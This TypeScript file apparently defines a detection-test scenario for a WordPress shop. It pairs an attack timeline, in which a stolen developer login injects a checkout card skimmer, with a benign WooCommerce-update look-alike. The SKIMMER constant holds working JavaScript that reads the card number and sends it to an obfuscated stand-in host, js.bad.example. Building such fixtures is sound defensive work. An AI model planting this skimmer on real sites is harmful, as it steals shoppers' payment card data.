import type { Story } from '../story.ts';

const SKIMMER = "document.querySelector('#place_order').addEventListener('click',function(){var c=document.querySelector('[name=cardnumber]').value;new Image().src=atob('aHR0cHM6Ly9qcy5iYWQuZXhhbXBsZS8=')+'?d='+btoa(c)})";

export const skimmer: Story = {
  name: 'skimmer', title: 'a script that reads cards put into the checkout',
  items: ['injection.skimmer'], site: 'payfox',
  attack(s) {
    const thief = s.stolen('developer', s.stranger());
    return [
      s.act(s.at('2:41'), 'authentication/user-login', thief, { 'wordpress.actor.place': 'new', 'wordpress.actor.device': 'new' }),
      s.act(s.at('2:44'), 'configuration/option-updated', thief, {
        'wordpress.option.name': 'insert_headers_footers', 'wordpress.option.group': 'scripts', 'wordpress.option.content': `<script>${SKIMMER}</script>`,
      }),
      s.act(s.at('2:45'), 'file/checkout-script-changed', {}, { 'wordpress.script.handle': 'checkout-inline', 'wordpress.script.known': false, 'destination.domain': 'js.bad.example' }),
    ];
  },
  lookAlike: {
    title: 'WooCommerce is updated and brings new checkout scripts',
    events: (s) => [
      s.act(s.at('10:44'), 'configuration/plugin-updated', s.staff('developer'), {
        'wordpress.plugin.slug': 'woocommerce', 'wordpress.package.source': 'https://downloads.wordpress.org/plugin/woocommerce.10.3.4.zip',
      }),
      s.every(s.at('10:44'), '1s', 20, (at, i) =>
        s.act(at, 'file/plugin-file-changed', {}, { 'wordpress.plugin.slug': 'woocommerce', 'file.path': `wp-content/plugins/woocommerce/assets/js/frontend/checkout-${i}.min.js` })),
      s.act(s.at('10:46'), 'file/checkout-script-changed', {}, { 'wordpress.script.handle': 'wc-checkout', 'wordpress.script.known': true }),
    ],
  },
};
